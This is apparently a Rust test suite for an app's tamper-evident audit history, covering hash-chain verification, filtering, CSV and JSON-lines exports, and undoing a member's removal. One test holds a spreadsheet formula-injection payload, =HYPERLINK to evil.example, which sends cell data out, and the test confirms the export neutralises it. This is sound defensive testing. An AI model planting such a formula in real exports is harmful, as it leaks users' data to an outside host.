//! History that proves it was not edited (HI-1, HI-2), history people can use (HI-3),
//! and undoing a member's removal (HI-4): on the services, with a real Postgres.
mod common;
use app::error::{AppError, Refusal};
use app::history::{service, Checkpoint, HistoryFilter, Scope};
use app::server::actor::Actor;
use app::server::history::{self as record, Entry};
use common::*;
use sqlx::PgPool;
use uuid::Uuid;

/// An integration whose chain holds its creation and `versions` versions.
async fn integration(app: &TestApp, ann: &Actor, name: &str, versions: usize) -> (Uuid, String) {
    let st = &app.state;
    let id = app::integrations::service::create(st, ann, name, "")
        .await
        .unwrap();
    for v in 0..versions {
        app::integrations::service::add_version(st, ann, id, &format!("1.{v}.0"))
            .await
            .unwrap();
    }
    (id, Scope::Integration(id).chain())
}

async fn check(app: &TestApp, chain: &str, kept: Option<&Checkpoint>) -> app::history::ChainCheck {
    let mut conn = app.pool.acquire().await.unwrap();
    service::verify_chain(&mut conn, chain, kept).await.unwrap()
}

/// Run `sql` on the history as a superuser would, with the append-only trigger off.
async fn tamper(app: &TestApp, sql: &str, chain: &str) {
    let mut tx = app.pool.begin().await.unwrap();
    sqlx::query("ALTER TABLE history DISABLE TRIGGER history_no_update_delete")
        .execute(&mut *tx)
        .await
        .unwrap();
    let done = sqlx::query(sql)
        .bind(chain)
        .execute(&mut *tx)
        .await
        .unwrap();
    assert!(
        done.rows_affected() > 0,
        "the tampering touched nothing: {sql}"
    );
    sqlx::query("ALTER TABLE history ENABLE TRIGGER history_no_update_delete")
        .execute(&mut *tx)
        .await
        .unwrap();
    tx.commit().await.unwrap();
}

// covers: HI-1, HI-2
#[sqlx::test(migrations = "../migrations")]
async fn a_chain_names_the_first_entry_changed_removed_or_reordered(pool: PgPool) {
    let app = TestApp::start(pool.clone()).await;
    let ann = person(&pool, "Ann", "ann@example.com").await;

    let (_, intact) = integration(&app, &ann, "Intact", 4).await;
    let ok = check(&app, &intact, None).await;
    assert!(ok.ok, "{ok:?}");
    assert_eq!(ok.entries, 5, "created and four versions");
    let head = ok.head.clone().unwrap();
    assert_eq!(head.seq, 5);
    assert_eq!(check(&app, &intact, Some(&head)).await.first_bad, None);

    // An entry's content changed.
    let (_, edited) = integration(&app, &ann, "Edited", 4).await;
    tamper(
        &app,
        "UPDATE history SET after = '{\"version\": \"9.9.9\"}' WHERE chain = $1 AND seq = 3",
        &edited,
    )
    .await;
    let c = check(&app, &edited, None).await;
    assert_eq!((c.ok, c.first_bad), (false, Some(3)), "{c:?}");
    assert!(c.problem.unwrap().contains("changed"));

    // Changed, and its own hash recomputed: the next entry no longer follows it.
    let (_, rehashed) = integration(&app, &ann, "Rehashed", 4).await;
    tamper(
        &app,
        "UPDATE history SET action = 'integration.nothing' WHERE chain = $1 AND seq = 2",
        &rehashed,
    )
    .await;
    tamper(&app, "UPDATE history h SET hash = sha256(h.prev_hash || history_canonical(h)) WHERE chain = $1 AND seq = 2", &rehashed).await;
    let c = check(&app, &rehashed, None).await;
    assert_eq!((c.ok, c.first_bad), (false, Some(3)), "{c:?}");
    assert!(c.problem.unwrap().contains("does not follow entry 2"));

    // An entry removed from the middle.
    let (_, holed) = integration(&app, &ann, "Holed", 4).await;
    tamper(
        &app,
        "DELETE FROM history WHERE chain = $1 AND seq = 2",
        &holed,
    )
    .await;
    let c = check(&app, &holed, None).await;
    assert_eq!((c.ok, c.first_bad), (false, Some(2)), "{c:?}");
    assert!(c.problem.unwrap().contains("missing"));

    // Two entries swapped.
    let (_, swapped) = integration(&app, &ann, "Swapped", 4).await;
    tamper(
        &app,
        "UPDATE history SET seq = CASE seq WHEN 2 THEN 3 ELSE 2 END WHERE chain = $1 AND seq IN (2, 3)",
        &swapped,
    )
    .await;
    let c = check(&app, &swapped, None).await;
    assert_eq!((c.ok, c.first_bad), (false, Some(2)), "{c:?}");

    // The newest entries removed, and the head moved back to hide it: only a kept
    // checkpoint tells.
    let (_, cut) = integration(&app, &ann, "Cut", 4).await;
    let kept = check(&app, &cut, None).await.head.unwrap();
    tamper(
        &app,
        "DELETE FROM history WHERE chain = $1 AND seq >= 4",
        &cut,
    )
    .await;
    let c = check(&app, &cut, None).await;
    assert_eq!(c.first_bad, Some(4), "the head still names entry 5: {c:?}");
    sqlx::query(
        "UPDATE history_chains c SET seq = h.seq, hash = h.hash FROM history h WHERE c.chain = $1 AND h.chain = $1 AND h.seq = 3",
    )
    .bind(&cut)
    .execute(&pool)
    .await
    .unwrap();
    assert!(
        check(&app, &cut, None).await.ok,
        "a careful cut hides from the chain alone"
    );
    let c = check(&app, &cut, Some(&kept)).await;
    assert_eq!((c.ok, c.first_bad), (false, Some(4)), "{c:?}");
    assert!(c.problem.unwrap().contains("removed"));

    // A kept checkpoint whose entry was rewritten (chain and head rebuilt) does not match.
    let forged = Checkpoint {
        seq: 3,
        hash: "0".repeat(64),
    };
    let c = check(&app, &intact, Some(&forged)).await;
    assert_eq!((c.ok, c.first_bad), (false, Some(3)), "{c:?}");
}

// covers: HI-1
#[sqlx::test(migrations = "../migrations")]
async fn two_writers_on_one_chain_leave_a_valid_chain(pool: PgPool) {
    let app = TestApp::start(pool.clone()).await;
    let ann = person(&pool, "Ann", "ann@example.com").await;
    let (id, chain) = integration(&app, &ann, "Busy", 0).await;
    let writer = |n: usize| {
        let pool = pool.clone();
        async move {
            for i in 0..40 {
                let mut tx = pool.begin().await.unwrap();
                record::record(
                    &mut tx,
                    Entry {
                        action: "integration.touched",
                        integration_id: Some(id),
                        after: Some(serde_json::json!({ "writer": n, "i": i })),
                        ..Default::default()
                    },
                )
                .await
                .unwrap();
                tx.commit().await.unwrap();
            }
        }
    };
    tokio::join!(writer(1), writer(2), writer(3));
    let c = check(&app, &chain, None).await;
    assert!(c.ok, "{c:?}");
    assert_eq!(c.entries, 121);
    let (distinct,): (i64,) =
        sqlx::query_as("SELECT count(DISTINCT seq) FROM history WHERE chain = $1")
            .bind(&chain)
            .fetch_one(&pool)
            .await
            .unwrap();
    assert_eq!(distinct, 121, "no number was given twice");
}

// covers: HI-3, X-2
#[sqlx::test(migrations = "../migrations")]
async fn history_filters_by_person_action_and_dates_and_exports_everything(pool: PgPool) {
    let app = TestApp::start(pool.clone()).await;
    let st = &app.state;
    let owner = app.signed_in("Olga Owner", "olga@example.com").await;
    let olga = actor_of(&pool, "olga@example.com").await;
    let account = app::accounts::service::create_account(st, &olga, "Acme")
        .await
        .unwrap();
    let ben = person(&pool, "Ben Builder", "ben@example.com").await;
    // 250 entries: Ben's on days 10 and 9 ago, Olga's today.
    for i in 0..250 {
        let (actor, days) = if i < 60 {
            (ben.id, 10)
        } else if i < 100 {
            (ben.id, 9)
        } else {
            (olga.id, 0)
        };
        sqlx::query(
            "INSERT INTO history (actor_id, action, account_id, at, after, reason) \
             VALUES ($1, $2, $3, now() - make_interval(days => $4), jsonb_build_object('i', $5::int), $6)",
        )
        .bind(actor)
        .bind(if i % 2 == 0 { "member.role_changed" } else { "member.noted" })
        .bind(account)
        .bind(days)
        .bind(i)
        .bind((i == 7).then_some("quarterly review"))
        .execute(&pool)
        .await
        .unwrap();
    }
    let scope = Scope::Account(account);
    let me = &olga;
    let page = |f: HistoryFilter| async move {
        service::page(st, me, scope, &f, None, 200).await.unwrap()
    };
    let all = page(HistoryFilter::default()).await;
    assert_eq!(all.entries.len(), 200);
    assert!(
        all.more && all.next.is_some(),
        "a page holds at most 200; the rest is a cursor away"
    );
    let bens = page(HistoryFilter {
        person: "ben@".into(),
        ..Default::default()
    })
    .await;
    assert_eq!(bens.entries.len(), 100);
    assert!(bens
        .entries
        .iter()
        .all(|e| e.actor.as_deref() == Some("Ben Builder")));
    let today = chrono::Utc::now().date_naive();
    let day = |n: i64| today - chrono::Duration::days(n);
    let nine = page(HistoryFilter {
        from: Some(day(9)),
        to: Some(day(9)),
        ..Default::default()
    })
    .await;
    assert_eq!(nine.entries.len(), 40, "the day 9 days ago, alone");
    let roles = page(HistoryFilter {
        action: "member.role_changed".into(),
        person: "Ben".into(),
        ..Default::default()
    })
    .await;
    assert_eq!(roles.entries.len(), 50);
    let why = page(HistoryFilter {
        q: "quarterly".into(),
        ..Default::default()
    })
    .await;
    assert_eq!(why.entries.len(), 1);
    assert_eq!(why.entries[0].reason.as_deref(), Some("quarterly review"));
    let backwards = service::page(
        st,
        &olga,
        scope,
        &HistoryFilter {
            from: Some(day(1)),
            to: Some(day(2)),
            ..Default::default()
        },
        None,
        10,
    )
    .await;
    assert!(
        matches!(backwards, Err(AppError::Validation { ref field, .. }) if field == "to"),
        "{backwards:?}"
    );

    // Exports have no cap: every entry, newest first.
    let (name, kind, csv) = service::export(
        st,
        &olga,
        scope,
        &HistoryFilter::default(),
        service::Format::Csv,
    )
    .await
    .unwrap();
    assert_eq!(
        (name.as_str(), kind),
        ("Acme history.csv", "text/csv; charset=utf-8")
    );
    let mut rows = csv::Reader::from_reader(csv.as_slice());
    assert_eq!(
        rows.headers().unwrap().iter().collect::<Vec<_>>(),
        ["seq", "at", "actor", "action", "target", "before", "after", "reason"]
    );
    assert_eq!(
        rows.records().count(),
        251,
        "250 and the account's creation"
    );
    let (_, _, lines) = service::export(
        st,
        &olga,
        scope,
        &HistoryFilter {
            person: "Ben".into(),
            ..Default::default()
        },
        service::Format::JsonLines,
    )
    .await
    .unwrap();
    let lines: Vec<serde_json::Value> = String::from_utf8(lines)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 100);
    assert_eq!(lines[0]["actor"], "Ben Builder");

    // Over HTTP: the owner downloads; a plain member and an outsider do not.
    let res = app
        .get(
            &owner,
            &format!("/accounts/{account}/history/export.jsonl?person=Ben"),
        )
        .await;
    assert_eq!(res.status(), 200);
    assert_eq!(res.headers()["content-type"], "application/x-ndjson");
    assert!(res.headers()["content-disposition"]
        .to_str()
        .unwrap()
        .contains("Acme history.jsonl"));
    assert_eq!(res.text().await.unwrap().lines().count(), 100);
    let outsider = app.signed_in("Eve Outsider", "eve@example.com").await;
    let res = app
        .get(
            &outsider,
            &format!("/accounts/{account}/history/export.csv"),
        )
        .await;
    assert_eq!(
        res.status(),
        404,
        "an outsider cannot tell the account exists"
    );
    let mo = person(&pool, "Mo Member", "mo@example.com").await;
    sqlx::query(
        "INSERT INTO account_members (account_id, user_id, role) VALUES ($1, $2, 'member')",
    )
    .bind(account)
    .bind(mo.id)
    .execute(&pool)
    .await
    .unwrap();
    let e = service::export(
        st,
        &mo,
        scope,
        &HistoryFilter::default(),
        service::Format::Csv,
    )
    .await
    .unwrap_err();
    assert!(
        matches!(e, AppError::Forbidden),
        "a plain member does not read the account's history: {e:?}"
    );

    // Other people's text never starts a spreadsheet formula in a CSV export.
    record::record(
        &mut pool.acquire().await.unwrap(),
        Entry {
            actor_id: Some(ben.id),
            action: "member.noted",
            account_id: Some(account),
            reason: Some("=HYPERLINK(\"http://evil.example/?\"&A2)".into()),
            ..Default::default()
        },
    )
    .await
    .unwrap();
    let f = HistoryFilter {
        q: "HYPERLINK".into(),
        ..Default::default()
    };
    let (_, _, csv) = service::export(st, &olga, scope, &f, service::Format::Csv)
        .await
        .unwrap();
    let text = String::from_utf8(csv).unwrap();
    assert!(text.contains(",\"'=HYPERLINK("), "{text}");

    // Dates and cursors beyond what a history can hold are refused, not a database error.
    for (from, cursor) in [
        (chrono::NaiveDate::from_ymd_opt(-5000, 1, 1), None),
        (None, Some("-210866803200000001.1")),
        (chrono::NaiveDate::from_ymd_opt(10000, 1, 1), None),
    ] {
        let f = HistoryFilter {
            from,
            ..Default::default()
        };
        let e = service::page(st, &olga, scope, &f, cursor, 10)
            .await
            .unwrap_err();
        assert!(
            matches!(e, AppError::Validation { .. }),
            "{from:?} {cursor:?}: {e:?}"
        );
    }
}

/// Olga owns Acme; Sam is a super admin, Ada an admin, Xavier (an admin) is removed.
struct Removal {
    account: Uuid,
    olga: Actor,
    sam: Actor,
    ada: Actor,
    x: Actor,
    /// X's rows before the removal: (table, id, state).
    before: Vec<(&'static str, Uuid, serde_json::Value)>,
    transfer: Uuid,
}

async fn state_of(
    pool: &PgPool,
    account: Uuid,
    owner: Option<Uuid>,
) -> Vec<(&'static str, Uuid, serde_json::Value)> {
    let mut all = Vec::new();
    for (table, state) in [
        (
            "zaps",
            app::members::transfer::ZAP_STATE.replace("z.", "t."),
        ),
        (
            "app_connections",
            app::members::transfer::AUTH_STATE.replace("c.", "t."),
        ),
        (
            "folders",
            app::members::transfer::FOLDER_STATE.replace("f.", "t."),
        ),
    ] {
        let rows: Vec<(Uuid, serde_json::Value)> = sqlx::query_as(&format!(
            "SELECT t.id, {state} FROM {table} t WHERE t.account_id = $1 AND ($2::uuid IS NULL OR t.owner_id = $2) ORDER BY t.id"
        ))
        .bind(account)
        .bind(owner)
        .fetch_all(pool)
        .await
        .unwrap();
        all.extend(rows.into_iter().map(|(id, s)| (table, id, s)));
    }
    all
}

async fn removal(app: &TestApp) -> Removal {
    let pool = &app.pool;
    let st = &app.state;
    let olga = person(pool, "Olga Owner", "olga@example.com").await;
    let account = app::accounts::service::create_account(st, &olga, "Acme")
        .await
        .unwrap();
    let sam = person(pool, "Sam Super", "sam@example.com").await;
    let ada = person(pool, "Ada Admin", "ada@example.com").await;
    let x = person(pool, "Xavier Gone", "xavier@example.com").await;
    for (who, role) in [(&sam, "super_admin"), (&ada, "admin"), (&x, "admin")] {
        sqlx::query("INSERT INTO account_members (account_id, user_id, role) VALUES ($1, $2, $3)")
            .bind(account)
            .bind(who.id)
            .bind(role)
            .execute(pool)
            .await
            .unwrap();
    }
    sqlx::query(
        "WITH s AS (INSERT INTO folders (account_id, owner_id, kind, name) VALUES ($1, $2, 'shared', 'Sales Ops') RETURNING id), \
              p AS (INSERT INTO folders (account_id, owner_id, kind, name) VALUES ($1, $2, 'personal', 'Drafts') RETURNING id) \
         INSERT INTO zaps (account_id, owner_id, name, private, folder_id, trigger, webhook_token) VALUES \
           ($1, $2, 'hook', false, (SELECT id FROM s), 'catch_hook', md5(random()::text)), \
           ($1, $2, 'draft', true, (SELECT id FROM p), 'none', NULL), \
           ($1, $2, 'unfiled', true, NULL, 'catch_raw_hook', md5(random()::text)), \
           ($1, $2, 'renamed later', false, (SELECT id FROM s), 'none', NULL), \
           ($1, $2, 'deleted later', true, NULL, 'none', NULL), \
           ($1, $2, 'given away later', false, NULL, 'none', NULL)",
    )
    .bind(account)
    .bind(x.id)
    .execute(pool)
    .await
    .unwrap();
    sqlx::query(
        "INSERT INTO app_connections (account_id, owner_id, app, name, private, expires_at) VALUES \
           ($1, $2, 'Gmail', 'Gmail', true, now() + interval '100 days'), \
           ($1, $2, 'Slack', 'Slack', false, NULL), \
           ($1, $2, 'Jira', 'Jira', false, NULL)",
    )
    .bind(account)
    .bind(x.id)
    .execute(pool)
    .await
    .unwrap();
    let before = state_of(pool, account, Some(x.id)).await;
    assert_eq!(before.len(), 11, "6 Zaps, 3 connections, 2 folders");
    let how = app::members::service::Handover {
        new_owner: None,
        private_connections: "30_days".into(),
        reason: Some("left the company".into()),
    };
    let removed = app::members::service::remove(st, &olga, account, x.id, &how, false)
        .await
        .unwrap();
    Removal {
        account,
        olga,
        sam,
        ada,
        x,
        before,
        transfer: removed.transfer_id,
    }
}

// covers: HI-4, HI-1, OF-3
#[sqlx::test(migrations = "../migrations")]
async fn undo_gives_back_exactly_the_unchanged_items_once(pool: PgPool) {
    let app = TestApp::start(pool.clone()).await;
    let st = &app.state;
    let r = removal(&app).await;
    let owned = |name: &'static str| {
        let pool = pool.clone();
        async move {
            let (id, owner): (Uuid, Uuid) =
                sqlx::query_as("SELECT id, owner_id FROM zaps WHERE name = $1")
                    .bind(name)
                    .fetch_one(&pool)
                    .await
                    .unwrap();
            (id, owner)
        }
    };
    assert_eq!(
        owned("hook").await.1,
        r.olga.id,
        "the removal moved the work to the owner"
    );
    // Since the removal: one Zap renamed, one deleted, one given to Sam, a connection renamed.
    for sql in [
        "UPDATE zaps SET name = 'Renamed by Olga' WHERE name = 'renamed later'",
        "DELETE FROM zaps WHERE name = 'deleted later'",
        "UPDATE app_connections SET name = 'Jira (team)' WHERE name = 'Xavier Gone - Jira'",
    ] {
        assert_eq!(
            sqlx::query(sql)
                .execute(&pool)
                .await
                .unwrap()
                .rows_affected(),
            1,
            "{sql}"
        );
    }
    sqlx::query("UPDATE zaps SET owner_id = $1 WHERE name = 'given away later'")
        .bind(r.sam.id)
        .execute(&pool)
        .await
        .unwrap();

    // Admins may not undo; the owner and super admins may; a wrong id answers like a missing one.
    let e = app::members::undo::undo(st, &r.ada, r.account, r.transfer, "", true)
        .await
        .unwrap_err();
    assert!(matches!(e, AppError::Forbidden), "{e:?}");
    let e = app::members::undo::undo(st, &r.sam, r.account, Uuid::new_v4(), "", true)
        .await
        .unwrap_err();
    assert!(matches!(e, AppError::NotFound), "{e:?}");
    let other = app::accounts::service::create_account(st, &r.sam, "Other")
        .await
        .unwrap();
    let e = app::members::undo::undo(st, &r.sam, other, r.transfer, "", true)
        .await
        .unwrap_err();
    assert!(
        matches!(e, AppError::NotFound),
        "another account's removal: {e:?}"
    );

    // The preview says what the undo does, and changes nothing.
    let untouched = state_of(&pool, r.account, None).await;
    let preview = app::members::undo::undo(st, &r.sam, r.account, r.transfer, "", true)
        .await
        .unwrap();
    assert_eq!(
        state_of(&pool, r.account, None).await,
        untouched,
        "a preview changes nothing"
    );
    assert_eq!(
        (preview.zaps, preview.connections, preview.folders),
        (3, 2, 2)
    );
    assert!(preview.membership_restored);
    assert_eq!(preview.role, app::domain::roles::AccountRole::Admin);
    assert_eq!(preview.left_alone_total, 4);
    let mut why: Vec<(String, String, String)> = preview
        .left_alone
        .iter()
        .map(|l| (l.kind.clone(), l.name.clone(), l.why.clone()))
        .collect();
    why.sort();
    assert_eq!(
        why,
        [
            (
                "Connection".into(),
                "Jira (team)".into(),
                "changed since (name)".into()
            ),
            (
                "Zap".into(),
                "Renamed by Olga".into(),
                "changed since (name)".into()
            ),
            ("Zap".into(), "deleted later".into(), "deleted since".into()),
            (
                "Zap".into(),
                "given away later".into(),
                "given to Sam Super since".into()
            ),
        ]
    );

    // The undo: exactly the preview, the unchanged items as they were before the removal.
    let done = app::members::undo::undo(
        st,
        &r.sam,
        r.account,
        r.transfer,
        "removed by mistake",
        false,
    )
    .await
    .unwrap();
    assert_eq!(done, preview, "the undo does what its preview said");
    let now: std::collections::HashMap<Uuid, serde_json::Value> = state_of(&pool, r.account, None)
        .await
        .into_iter()
        .map(|(_, id, s)| (id, s))
        .collect();
    let left = ["renamed later", "deleted later", "given away later", "Jira"];
    for (table, id, was) in &r.before {
        let name = was["name"].as_str().unwrap_or("");
        if left.contains(&name) {
            assert_ne!(
                now.get(id),
                Some(was),
                "{table} {name} stays with its new owner"
            );
        } else {
            assert_eq!(
                now.get(id),
                Some(was),
                "{table} {name} is back exactly as it was"
            );
        }
    }
    let (role,): (String,) =
        sqlx::query_as("SELECT role FROM account_members WHERE account_id = $1 AND user_id = $2")
            .bind(r.account)
            .bind(r.x.id)
            .fetch_one(&pool)
            .await
            .unwrap();
    assert_eq!(role, "admin", "the membership returns with its role");
    let (folders,): (i64,) =
        sqlx::query_as("SELECT count(*) FROM folders WHERE name = 'Xavier Gone''s Zaps'")
            .fetch_one(&pool)
            .await
            .unwrap();
    assert_eq!(folders, 0, "the folder the removal made is gone once empty");

    // History: both entries, with their reasons, in a chain that verifies; both mails.
    let page = service::page(
        st,
        &r.olga,
        Scope::Account(r.account),
        &HistoryFilter::default(),
        None,
        50,
    )
    .await
    .unwrap();
    let entries: Vec<(&str, Option<&str>)> = page
        .entries
        .iter()
        .map(|e| (e.action.as_str(), e.reason.as_deref()))
        .take(2)
        .collect();
    assert_eq!(
        entries,
        [
            ("member.removal_undone", Some("removed by mistake")),
            ("member.removed", Some("left the company"))
        ]
    );
    assert!(
        page.entries[1].before.contains("role: admin"),
        "{:?}",
        page.entries[1]
    );
    assert!(
        page.entries.iter().all(|e| e.undo.is_none()),
        "nothing left to undo"
    );
    assert!(
        check(&app, &Scope::Account(r.account).chain(), None)
            .await
            .ok
    );
    let mails: Vec<(String, String)> =
        sqlx::query_as("SELECT to_addr, subject FROM outbox ORDER BY id DESC LIMIT 2")
            .fetch_all(&pool)
            .await
            .unwrap();
    assert!(
        mails.contains(&("xavier@example.com".into(), "You are back in Acme".into())),
        "{mails:?}"
    );
    assert!(
        mails.contains(&(
            "olga@example.com".into(),
            "Xavier Gone's work went back to them".into()
        )),
        "{mails:?}"
    );

    // Once only, even by the owner.
    let again = app::members::undo::undo(st, &r.olga, r.account, r.transfer, "", false)
        .await
        .unwrap_err();
    assert!(
        matches!(again, AppError::Refused(Refusal::AlreadyUndone)),
        "{again:?}"
    );
}

// covers: HI-4
#[sqlx::test(migrations = "../migrations")]
async fn undo_is_refused_after_fourteen_days_and_raced_undos_run_once(pool: PgPool) {
    let app = TestApp::start(pool.clone()).await;
    let st = &app.state;
    let r = removal(&app).await;
    sqlx::query("UPDATE transfers SET at = now() - interval '14 days 1 minute' WHERE id = $1")
        .bind(r.transfer)
        .execute(&pool)
        .await
        .unwrap();
    let e = app::members::undo::undo(st, &r.olga, r.account, r.transfer, "", false)
        .await
        .unwrap_err();
    assert!(
        matches!(e, AppError::Refused(Refusal::UndoExpired)),
        "{e:?}"
    );
    sqlx::query("UPDATE transfers SET at = now() - interval '13 days' WHERE id = $1")
        .bind(r.transfer)
        .execute(&pool)
        .await
        .unwrap();
    let (a, b) = tokio::join!(
        app::members::undo::undo(st, &r.olga, r.account, r.transfer, "", false),
        app::members::undo::undo(st, &r.sam, r.account, r.transfer, "", false),
    );
    let oks = [&a, &b].iter().filter(|x| x.is_ok()).count();
    assert_eq!(oks, 1, "{a:?} {b:?}");
    let loser = if a.is_ok() { b } else { a };
    assert!(
        matches!(loser, Err(AppError::Refused(Refusal::AlreadyUndone))),
        "{loser:?}"
    );
    let (undone,): (i64,) =
        sqlx::query_as("SELECT count(*) FROM history WHERE action = 'member.removal_undone'")
            .fetch_one(&pool)
            .await
            .unwrap();
    assert_eq!(undone, 1);
}

// covers: HI-1, TM-5
#[sqlx::test(migrations = "../migrations")]
async fn a_role_change_records_before_after_and_the_reason(pool: PgPool) {
    let app = TestApp::start(pool.clone()).await;
    let st = &app.state;
    let ann = person(&pool, "Ann", "ann@example.com").await;
    let cal = person(&pool, "Cal", "cal@example.com").await;
    let (id, _) = integration(&app, &ann, "Roles", 0).await;
    let (member,): (Uuid,) = sqlx::query_as(
        "INSERT INTO team_members (integration_id, user_id, email, role, status, accepted_at) \
         VALUES ($1, $2, 'cal@example.com', 'collaborator', 'accepted', now()) RETURNING id",
    )
    .bind(id)
    .bind(cal.id)
    .fetch_one(&pool)
    .await
    .unwrap();
    let long = "x".repeat(501);
    let e = app::team::service::change_role(st, &ann, id, member, "admin", &long)
        .await
        .unwrap_err();
    assert!(
        matches!(e, AppError::Validation { ref field, .. } if field == "reason"),
        "{e:?}"
    );
    let (role,): (String,) = sqlx::query_as("SELECT role FROM team_members WHERE id = $1")
        .bind(member)
        .fetch_one(&pool)
        .await
        .unwrap();
    assert_eq!(role, "collaborator", "a refused change changes nothing");
    app::team::service::change_role(st, &ann, id, member, "admin", "  runs the release now ")
        .await
        .unwrap();
    let f = HistoryFilter {
        action: "team.role_changed".into(),
        ..Default::default()
    };
    let page = service::page(st, &ann, Scope::Integration(id), &f, None, 10)
        .await
        .unwrap();
    assert_eq!(page.entries.len(), 1);
    let e = &page.entries[0];
    assert_eq!(
        (e.before.as_str(), e.details.as_str(), e.reason.as_deref()),
        (
            "role: collaborator",
            "role: admin",
            Some("runs the release now")
        )
    );
    assert_eq!(e.target.as_deref(), Some("Cal (cal@example.com)"));
}
